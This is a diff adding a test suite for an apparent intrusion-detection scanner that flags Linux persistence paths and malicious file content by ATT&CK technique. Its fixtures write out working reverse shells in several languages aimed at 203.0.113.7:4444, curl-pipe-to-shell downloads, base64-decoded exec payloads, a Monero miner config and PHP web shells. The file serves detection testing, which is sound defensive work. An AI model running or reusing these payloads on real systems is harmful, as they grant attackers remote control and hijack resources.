@@ -1,0 +1,278 @@
+/**
+ * Each persistence place and content family: a realistic true positive and a benign
+ * near-miss, with the ATT&CK technique the finding carries.
+ */
+import { describe, expect, it } from 'vitest';
+import { evaluateChange, type ChangeFacts } from '../../src/findings/change-rules.js';
+import {
+  decodedExecution,
+  downloadAndExecute,
+  minerConfig,
+  phpShellContent,
+  reverseShell,
+} from '../../src/findings/content-rules.js';
+import {
+  cronPersistence,
+  eventHook,
+  gitConfigCommand,
+  kernelModule,
+  packageHook,
+  pamChange,
+  startupPersistence,
+  systemdPersistence,
+  udevRule,
+} from '../../src/findings/persistence-rules.js';
+import type { FileMeta } from '../../src/report/file-meta.js';
+
+const file = (over: Partial<FileMeta> = {}): FileMeta => ({
+  type: 'file',
+  mode: 0o644,
+  uid: 0,
+  gid: 0,
+  sizeBytes: 10,
+  ...over,
+});
+const added = (
+  path: string,
+  currentText?: string,
+  over: Partial<ChangeFacts> = {},
+): ChangeFacts => ({
+  path,
+  kind: 'A',
+  current: file(),
+  ...(currentText !== undefined ? { currentText } : {}),
+  ...over,
+});
+
+describe('persistence places', () => {
+  it.each([
+    [systemdPersistence, '/usr/local/lib/systemd/system/dbus-helper.service', 'T1543.002'],
+    [systemdPersistence, '/etc/systemd/system/nginx.service.d/override.conf', 'T1543.002'],
+    [systemdPersistence, '/root/.config/systemd/user/agent.service', 'T1543.002'],
+    [systemdPersistence, '/etc/systemd/system/backup.timer', 'T1053.006'],
+    [systemdPersistence, '/usr/lib/systemd/system-generators/zz-gen', 'T1543.002'],
+    [cronPersistence, '/etc/crontabs/root', 'T1053.003'],
+    [cronPersistence, '/var/spool/cron/crontabs/www-data', 'T1053.003'],
+    [cronPersistence, '/etc/cron.hourly/update', 'T1053.003'],
+    [cronPersistence, '/var/spool/cron/atjobs/a0001', 'T1053.002'],
+    [packageHook, '/etc/apt/apt.conf.d/99-update-notify', 'T1546.016'],
+    [packageHook, '/etc/dpkg/dpkg.cfg.d/hook', 'T1546.016'],
+    [packageHook, '/var/lib/dpkg/info/openssl.postinst', 'T1546.016'],
+    [packageHook, '/etc/dnf/plugins/post.conf', 'T1546.016'],
+    [pamChange, '/etc/pam.d/sshd', 'T1556.003'],
+    [pamChange, '/lib/x86_64-linux-gnu/security/pam_unix.so', 'T1556.003'],
+    [udevRule, '/etc/udev/rules.d/75-net.rules', 'T1546.017'],
+    [startupPersistence, '/etc/xdg/autostart/update.desktop', 'T1547.013'],
+    [startupPersistence, '/home/u/.config/autostart/x.desktop', 'T1547.013'],
+    [startupPersistence, '/etc/update-motd.d/30-sysinfo', 'T1037'],
+    [startupPersistence, '/etc/profile.d/locale.sh', 'T1546.004'],
+    [startupPersistence, '/etc/rc.local', 'T1037.004'],
+    [startupPersistence, '/etc/rc3.d/S01x', 'T1037.004'],
+    [kernelModule, '/lib/modules/6.1.0/extra/diamorphine.ko', 'T1547.006'],
+    [kernelModule, '/etc/modules-load.d/x.conf', 'T1547.006'],
+    [eventHook, '/srv/app/.git/hooks/post-checkout', 'T1546'],
+    [eventHook, '/etc/NetworkManager/dispatcher.d/99-x', 'T1546'],
+    [eventHook, '/etc/polkit-1/rules.d/10-admin.rules', 'T1548'],
+  ])('%o names %s as a persistence place (%s)', (rule, path, attack) => {
+    const hit = rule(added(path));
+    expect(hit?.attack).toBe(attack);
+    expect(['high', 'critical']).toContain(hit?.severity);
+  });
+
+  it.each([
+    [systemdPersistence, '/etc/systemd/journald.conf.bak'],
+    [cronPersistence, '/etc/cronjob-notes'],
+    [packageHook, '/etc/apt/sources.list.d/extra.list'],
+    [pamChange, '/usr/lib/x86_64-linux-gnu/libpam.so.0'],
+    [udevRule, '/etc/udev/hwdb.bin'],
+    [startupPersistence, '/etc/profiles-backup'],
+    [kernelModule, '/usr/share/doc/kmod/README'],
+    [eventHook, '/srv/app/.git/objects/ab/cdef'],
+  ])('%o leaves a near miss alone: %s', (rule, path) => {
+    expect(rule(added(path))).toBeUndefined();
+  });
+
+  it('leaves deletions and folders to the other rules', () => {
+    expect(cronPersistence({ path: '/etc/cron.d/x', kind: 'D', original: file() })).toBeUndefined();
+    expect(
+      systemdPersistence(
+        added('/etc/systemd/system/x', undefined, { current: file({ type: 'directory' }) }),
+      ),
+    ).toBeUndefined();
+  });
+
+  it('flags git configuration that runs a program, not an ordinary one', () => {
+    expect(
+      gitConfigCommand(added('/root/.gitconfig', '[core]\n\tpager = sh -c "curl x|sh"\n'))?.attack,
+    ).toBe('T1546');
+    expect(
+      gitConfigCommand(added('/srv/app/.git/config', '[core]\n\tfsmonitor = /tmp/.m\n')),
+    ).toBeDefined();
+    expect(
+      gitConfigCommand(
+        added('/root/.gitconfig', '[user]\n\tname = Ann\n[core]\n\tautocrlf = input\n'),
+      ),
+    ).toBeUndefined();
+  });
+});
+
+describe('content: remote shells', () => {
+  it.each([
+    ['bash /dev/tcp', '* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
+    ['busybox nc -e', '*/5 * * * * nc 203.0.113.7 4444 -e /bin/sh'],
+    ['nc -e first', 'nc -e /bin/sh 203.0.113.7 4444'],
+    ['mkfifo', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'],
+    ['socat', 'socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr,setsid'],
+    [
+      'python',
+      'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn("/bin/sh")',
+    ],
+    [
+      'perl',
+      'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
+    ],
+    [
+      'php',
+      '<?php $sock=fsockopen("203.0.113.7",4444);proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes); ?>',
+    ],
+    [
+      'ruby',
+      'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
+    ],
+  ])('%s is a remote shell, critical, with where it calls', (_, text) => {
+    const hit = reverseShell(added('/etc/crontabs/root', text));
+    expect(hit?.severity).toBe('critical');
+    expect(hit?.attack).toMatch(/^T1059/);
+  });
+
+  it('leaves scripts that only talk to the network alone', () => {
+    for (const text of [
+      'nc -z db 5432 && echo up',
+      'exec 3<>/dev/null',
+      'curl -fsS http://127.0.0.1:8080/health',
+      'import socket\ns = socket.create_connection(("db", 5432))\nprint(s.recv(10))',
+    ])
+      expect(reverseShell(added('/usr/local/bin/check', text)), text).toBeUndefined();
+  });
+});
+
+describe('content: download and execute, decoded execution', () => {
+  it('flags a download piped into a shell or run from a temp folder', () => {
+    expect(
+      downloadAndExecute(
+        added('/etc/cron.d/x', '* * * * * root curl -fsSL http://203.0.113.7/x.sh | sh'),
+      )?.attack,
+    ).toBe('T1105');
+    expect(
+      downloadAndExecute(
+        added('/etc/rc.local', 'wget -q http://x/k -O /tmp/k; chmod +x /tmp/k; /tmp/k'),
+      ),
+    ).toBeDefined();
+  });
+  it('leaves a download to a file alone', () => {
+    expect(
+      downloadAndExecute(
+        added('/usr/local/bin/fetch', 'curl -fsSLo /srv/data/file.tar.gz https://example.org/f'),
+      ),
+    ).toBeUndefined();
+  });
+  it.each([
+    ['shell', 'echo Y3VybCB4fHNo | base64 -d | bash'],
+    ['python', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'],
+    ['perl', 'use MIME::Base64;eval(decode_base64("cHJpbnQgMQ=="));'],
+    ['php', '<?php eval(gzinflate(base64_decode("S0lNzs8pSgUA"))); ?>'],
+  ])('flags %s running decoded code', (_, text) => {
+    expect(decodedExecution(added('/var/tmp/.x', text))?.attack).toBe('T1140');
+  });
+  it('leaves decoding that runs nothing alone', () => {
+    expect(
+      decodedExecution(added('/app/a.py', 'data = base64.b64decode(blob)\nprint(len(data))')),
+    ).toBeUndefined();
+    expect(decodedExecution(added('/app/a.sh', 'base64 -d key.b64 > key.pem'))).toBeUndefined();
+  });
+});
+
+describe('content: mining', () => {
+  const wallet = '4' + 'A'.repeat(10) + '1'.repeat(84);
+  it('flags a pool, a wallet and xmrig settings', () => {
+    const hit = minerConfig(
+      added(
+        '/tmp/.c/config.json',
+        `{"donate-level": 1, "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333", "user": "${wallet}"}]}`,
+      ),
+    );
+    expect(hit).toMatchObject({ severity: 'critical', attack: 'T1496' });
+  });
+  it('leaves ordinary configuration alone', () => {
+    expect(
+      minerConfig(added('/etc/app.json', '{"pool": {"max": 10}, "url": "https://example.org"}')),
+    ).toBeUndefined();
+  });
+});
+
+describe('content: PHP web shell families', () => {
+  it.each([
+    ['input called', '<?php $_GET["f"]($_GET["a"]); ?>'],
+    ['variable function', '<?php $f = "sys"."tem"; $f($_POST["c"]); ?>'],
+    ['preg_replace /e', '<?php preg_replace("/.*/e", $_POST["c"], ""); ?>'],
+    ['create_function', '<?php $f = create_function("", $_REQUEST["c"]); $f(); ?>'],
+    ['chr()', '<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f("id"); ?>'],
+    ['assert', '<?php @assert($_POST["x"]); ?>'],
+    ['callback', '<?php array_map($_GET["f"], array($_GET["a"])); ?>'],
+    ['input into a command', '<?php echo shell_exec($_GET["cmd"]); ?>'],
+  ])('%s is a web shell, critical, wherever it is', (_, text) => {
+    expect(phpShellContent(added('/usr/share/doc/x.php', text))).toMatchObject({
+      severity: 'critical',
+      attack: 'T1505.003',
+    });
+  });
+  it('leaves PHP libraries that call exec sinks or eval without request input alone', () => {
+    for (const text of [
+      // class-json.php style: eval on its own decoded data
+      '<?php function decode($s) { return eval("return $s;"); } ?>',
+      // PHPMailer style
+      '<?php $mail = @popen($sendmail, "w"); ?>',
+      // random_compat style
+      '<?php $buf = system("head -c 32 /dev/urandom"); ?>',
+      '<?php echo htmlspecialchars($_GET["q"]); ?>',
+    ])
+      expect(phpShellContent(added('/var/www/html/wp-includes/x.php', text)), text).toBeUndefined();
+  });
+});
+
+describe('evaluateChange', () => {
+  it('ranks the busybox crontab reverse shell critical for its content and high for its place, both tagged', () => {
+    const findings = evaluateChange(
+      added('/etc/crontabs/root', '*/5 * * * * nc 203.0.113.7 4444 -e /bin/sh\n'),
+    );
+    expect(findings.map((f) => [f.rule, f.severity, f.attack])).toEqual(
+      expect.arrayContaining([
+        ['cron', 'high', 'T1053.003'],
+        ['reverse-shell', 'critical', 'T1059.004'],
+      ]),
+    );
+  });
+  it('ranks an APT hook high with its reason, and a library calling popen in a web root only medium', () => {
+    const apt = evaluateChange(
+      added(
+        '/etc/apt/apt.conf.d/99-x',
+        'APT::Update::Pre-Invoke {"/usr/bin/python3 /var/tmp/.u &";};\n',
+      ),
+    );
+    expect(apt.find((f) => f.rule === 'package-hook')).toMatchObject({
+      severity: 'high',
+      attack: 'T1546.016',
+    });
+    const lib = evaluateChange(
+      added(
+        '/var/www/html/wp-includes/PHPMailer/PHPMailer.php',
+        '<?php $mail = @popen($sendmail, "w"); ?>',
+      ),
+    );
+    expect(lib.find((f) => f.rule === 'web-shell')?.severity).toBe('medium');
+  });
+  it('tags the older rules with their technique', () => {
+    const shell = evaluateChange(added('/var/www/x.php', '<?php eval($_POST["c"]); ?>'));
+    expect(shell.find((f) => f.rule === 'web-shell')?.attack).toBe('T1505.003');
+  });
+});
